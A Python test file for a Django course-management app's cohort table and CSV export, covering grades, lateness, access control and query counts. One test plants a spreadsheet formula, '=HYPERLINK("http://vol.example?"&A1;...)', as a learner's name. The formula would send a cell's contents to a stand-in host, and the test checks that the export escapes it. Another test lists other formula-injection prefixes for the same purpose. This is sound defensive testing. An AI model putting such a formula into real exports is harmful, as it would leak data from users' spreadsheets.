"""The cohort as a table and as a spreadsheet."""

from __future__ import annotations

import csv
from datetime import timedelta
from io import StringIO
from uuid import uuid4

import pytest
from django.http import HttpResponse
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from passerelle.campus.actions import form_team, withdraw
from passerelle.campus.enums import Role
from passerelle.campus.models import Activity, Attempt, Attendance, Enrolment
from passerelle.campus.queries.cohort_csv import harmless
from passerelle.campus.queries.cohort_late import learners_of, with_lateness
from passerelle.campus.queries.gradebook import gradebook_of
from passerelle.people.models import Institution, Person
from tests.campus.marking_cast import Stage, at, make_assignment, mark, signed_in
from tests.factories import (
    NOW,
    make_activity,
    make_attempt,
    make_enrolment,
    make_institution,
    make_module,
    make_person,
    make_session,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("standing_now")]


def overdue_quiz(stage: Stage, **fields: object) -> Activity:
    return make_activity(
        stage.module, "quiz", component="quizzes", due_at=NOW - timedelta(days=5), **fields
    )


def test_a_row_says_hours_results_and_the_provisional_total(client: Client, stage: Stage) -> None:
    mark(stage.paper, 8, 10)
    session = make_session(stage.module, starts_at=NOW - timedelta(days=2), ends_at=NOW)
    present(session, stage.learner, 90)

    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    row = page.rows[0]
    assert (row.name, row.cells, row.hours) == (
        "Amina Inventée",
        '<td class="n">2\u00a0h\u00a030<small>16,0</small></td>',
        "2\u00a0h\u00a030",
    )
    assert row.total == f"{gradebook_of(stage.learner).standing.so_far}".replace(".", ",")


def test_a_module_without_any_activity_has_its_column(client: Client, stage: Stage) -> None:
    conferences = make_module(stage.edition, 9, kind="conferences", hours=4)
    present(make_session(conferences), stage.learner, 60)

    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    assert [column.title for column in page.columns] == ["M1", "M9"]
    assert page.rows[0].cells.endswith('<td class="n">1\u00a0h<small></small></td>')


def test_the_title_says_who_is_late_and_the_row_how_long(client: Client, stage: Stage) -> None:
    overdue_quiz(stage)

    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    assert page.finding in ("One person is late.", "Une personne est en retard.")
    assert "5" in page.rows[0].late


def test_whoever_withdrew_is_shown_and_never_late(client: Client, stage: Stage) -> None:
    overdue_quiz(stage)
    withdraw(stage.learner, by=stage.coordinator, reason="Changement de poste")

    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    assert (page.rows[0].late, page.groups[0].late) == ("", 0)
    assert page.rows[0].about != ""


def test_work_of_a_team_counts_for_each_of_its_members(client: Client, stage: Stage) -> None:
    other = make_enrolment(stage.edition)
    team = form_team(stage.edition, number=1, name="Sept", members=[stage.learner, other])
    report = make_assignment(stage.module, by_team=True, due_at=NOW - timedelta(days=1))
    Attempt.objects.create(
        activity=report, team=team, started_at=NOW, submitted_at=NOW, form_key=uuid4()
    )

    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    assert [row.late for row in page.rows] == ["", ""]
    assert page.groups[0].late == 0


def test_the_database_and_the_table_count_the_same_people_late(
    client: Client, stage: Stage
) -> None:
    quiz = overdue_quiz(stage)
    make_attempt(quiz, make_enrolment(stage.edition))
    gone = make_enrolment(stage.edition)
    withdraw(gone, by=stage.coordinator, reason="Départ")
    overdue_quiz(stage, slug="autre")

    counted = with_lateness(learners_of(stage.edition), [quiz, *due_besides(stage, quiz)])
    page = signed_in(client, stage.coordinator).get(at("cohort/")).context["page"]

    assert counted.filter(late__gt=0).count() == sum(1 for row in page.rows if row.late) == 2


def due_besides(stage: Stage, quiz: Activity) -> list[Activity]:
    return list(Activity.objects.filter(module=stage.module, due_at__lt=NOW).exclude(pk=quiz.pk))


def test_late_first_puts_the_latest_on_top(client: Client, stage: Stage) -> None:
    quiz = overdue_quiz(stage)
    make_attempt(quiz, stage.learner)
    late = make_enrolment(stage.edition, person=make_person("Zoé Inventée"))

    page = signed_in(client, stage.coordinator).get(at("cohort/?sort=late")).context["page"]

    assert [row.name for row in page.rows] == [str(late.person), "Amina Inventée"]


def test_an_institution_can_be_looked_at_alone(client: Client, stage: Stage) -> None:
    elsewhere = make_institution("nantes", "FR")
    theirs = make_enrolment(stage.edition)
    Enrolment.objects.filter(pk=theirs.pk).update(institution=elsewhere)

    page = signed_in(client, stage.coordinator).get(at("cohort/?institution=nantes"))

    shown = page.context["page"]
    assert [row.name for row in shown.rows] == [str(theirs.person)]
    assert [group.slug for group in shown.groups] == ["chum", "nantes"]


def test_pages_keep_the_order_and_the_institution(client: Client, stage: Stage) -> None:
    enrol_many(stage, 60)

    page = (
        signed_in(client, stage.coordinator)
        .get(at("cohort/?sort=late&institution=chum&page=2"))
        .context["page"]
    )

    assert page.before_url == "?sort=late&institution=chum"
    assert page.after_url == "?sort=late&institution=chum&page=3"
    assert len(page.rows) == 25


@pytest.mark.parametrize("role", [Role.LEARNER, Role.EXPERT, Role.JUROR, Role.REGISTRAR])
def test_the_cohort_is_for_the_staff(client: Client, stage: Stage, role: str) -> None:
    someone = make_enrolment(stage.edition, role).person
    signed_in(client, someone)

    codes = [client.get(at(path)).status_code for path in ("cohort/", "cohort.csv")]

    assert codes == [403, 403]


@pytest.mark.parametrize("order", ["", "?sort=late", "?institution=chum"])
@pytest.mark.parametrize("learners", [1, 3, 25, 250])
def test_the_cohort_costs_eight_queries_whatever_its_size(
    client: Client,
    stage: Stage,
    order: str,
    learners: int,
    django_assert_num_queries: DjangoAssertNumQueries,
) -> None:
    overdue_quiz(stage)
    enrol_many(stage, learners - 1)
    signed_in(client, stage.coordinator)

    with django_assert_num_queries(8):
        client.get(at(f"cohort/{order}"))


def test_the_spreadsheet_holds_every_learner(client: Client, stage: Stage) -> None:
    enrol_many(stage, 120)

    lines = read(signed_in(client, stage.coordinator).get(at("cohort.csv")))

    assert len(lines) == 122
    assert lines[1][0] == "Amina Inventée"


def test_a_name_that_is_a_formula_is_text_in_the_spreadsheet(client: Client, stage: Stage) -> None:
    formula = '=HYPERLINK("http://vol.example?"&A1;"cliquez")'
    make_enrolment(stage.edition, person=make_person(formula))

    lines = read(signed_in(client, stage.coordinator).get(at("cohort.csv")))

    assert f"'{formula}" in [line[0] for line in lines]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_run_is_made_harmless(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Amina", "12,5", "a=b", "−3"])
def test_plain_cells_are_left_alone(cell: str) -> None:
    assert harmless(cell) == cell


def read(answer: HttpResponse) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(StringIO(text), delimiter=";"))


def present(session: object, enrolment: Enrolment, minutes: int) -> Attendance:
    return Attendance.objects.create(
        session=session,
        enrolment=enrolment,
        minutes=minutes,
        evidence="roll call",
        recorded_at=NOW,
        recorded_by=enrolment.person,
    )


def enrol_many(stage: Stage, count: int) -> None:
    """Many learners at once, each with a marked copy."""
    institution = Institution.objects.get(slug="chum")
    people = Person.objects.bulk_create(
        [
            Person(
                email=f"beaucoup{n}@invente.example",
                name=f"Foule {n:04}",
                sort_name=f"zz {n:04}",
                password="!",
            )
            for n in range(count)
        ]
    )
    enrolments = Enrolment.objects.bulk_create(
        [
            Enrolment(
                edition=stage.edition,
                person=person,
                role=Role.LEARNER,
                institution=institution,
                enrolled_at=NOW,
            )
            for person in people
        ]
    )
    Attempt.objects.bulk_create(
        [
            Attempt(
                activity=stage.assignment,
                enrolment=enrolment,
                started_at=NOW,
                submitted_at=NOW,
                form_key=uuid4(),
            )
            for enrolment in enrolments
        ]
    )
